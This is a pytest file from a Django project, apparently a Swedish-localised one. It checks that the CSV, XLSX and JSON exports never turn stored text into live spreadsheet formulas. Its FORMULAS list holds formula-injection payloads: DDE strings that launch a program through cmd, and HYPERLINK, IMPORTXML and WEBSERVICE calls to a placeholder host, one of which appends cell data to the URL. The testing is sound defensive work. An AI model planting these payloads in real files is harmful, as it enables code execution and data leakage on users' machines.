"""CATALOGUE F5: whatever stands in a text, no export of ours makes a formula of it."""

import csv
import io
import json
import re
import zipfile
from dataclasses import replace

import openpyxl
import pytest
from django.urls import reverse

from kick.lib.export import restore
from organisations.models import ImportRow
from organisations.register_lists import reasons
from tests.kick import cast as the_cast
from tests.kick import matrix, seeded
from tests.kick.test_house_urls import cast, walk

__all__ = ["cast"]
pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '=HYPERLINK("https://ond.example?"&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML("https://ond.example","//a")',
    '=WEBSERVICE("https://ond.example")',
    ';=1+1;"=1+1"',
    '"=1+1',
    ",=1+1",
    "@=1",
]
LIVE = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
FORMATS = ["csv", "xlsx", "json"]
OPEN_FORMATS = ["csv", "json"]


def exports():
    """(row, format) of every url that gives a file of rows; one without a format gives CSV."""
    patterns = {name: str(pattern.pattern) for name, pattern in walk()}
    for row in matrix.ROWS:
        if ":format>" in patterns[row.name]:
            for format in OPEN_FORMATS if "open_data" in row.name else FORMATS:
                yield row, row.objects.replace(":csv", f":{format}"), format
        elif row.name.endswith("importbatch_errors"):
            yield row, row.objects, "csv"


def cells_of(content, format):
    if format == "csv":
        text = content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    if format == "json":
        rows = json.loads(content)
        rows = rows if isinstance(rows, list) else next(v for v in rows.values() if type(v) is list)
        return [list(row.values()) for row in rows]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def live_in(content, format):
    if format == "csv":
        return [
            cell
            for row in cells_of(content, "csv")
            for cell in row
            if LIVE.match(cell) and not re.fullmatch(r"-?\d+(,\d+)?", cell)
        ]
    if format == "json":
        return []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        formulas = [n for n in book.namelist() if re.search(rb"<f[ >/]", book.read(n))]
    typed = [
        cell.value for row in cells_of(content, "xlsx") for cell in row if cell.data_type == "f"
    ]
    return formulas + typed


def taken_out(cast, row, objects, format):
    """The file as the first role that may have it."""
    url = reverse(row.name, args=replace(row, objects=objects).arguments(cast.here))
    method = "post" if row.get == 405 else "get"
    role = next(
        role for role in reversed(the_cast.ROLES) if row.answer(role, "here", method) == 200
    )
    response = getattr(cast.client(role), method)(url)
    return response, response.getvalue()


def seed_with(cast, formula):
    def text_for(field, number):
        return formula[: field.max_length or 1000]

    taken, _refused = seeded.seed(text_for)
    error = reasons.problem(formula, "unknown_municipality", text=formula, region=formula)
    ImportRow.objects.create(
        batch_id=cast.here.pk("importbatch"),
        number=1,
        cells=[formula],
        errors=[error],
        fate="error",
    )
    return taken


@pytest.mark.parametrize(
    "formulas",
    [
        pytest.param(FORMULAS[:1], id="one"),
        pytest.param(FORMULAS, id="all", marks=pytest.mark.proof),
    ],
)
def test_f5_no_cell_is_alive(cast, formulas, request):
    live, files, cells, fields, came_back = [], 0, 0, set(), 0
    for formula in formulas:
        with the_cast.undone():
            fields |= seed_with(cast, formula)
            for row, objects, format in exports():
                response, content = taken_out(cast, row, objects, format)
                assert response.status_code == 200, (row.name, format)
                live += [(row.name, format, cell) for cell in live_in(content, format)]
                found = cells_of(content, format)
                files, cells = files + 1, cells + sum(len(line) for line in found)
                came_back += sum(back(cell, format) == formula for line in found for cell in line)

    assert live == []
    assert came_back > files / 2
    if len(formulas) > 1:
        figure = request.getfixturevalue("figure")
        figure("F5", f"{len(formulas)} formulas in {len(fields)} fields, {files} files of")
        figure("F5", f"{cells} cells: 0 live; {came_back} texts read back as they were")


def back(cell, format):
    if format == "csv":
        return restore(cell)
    return cell.value if format == "xlsx" else cell
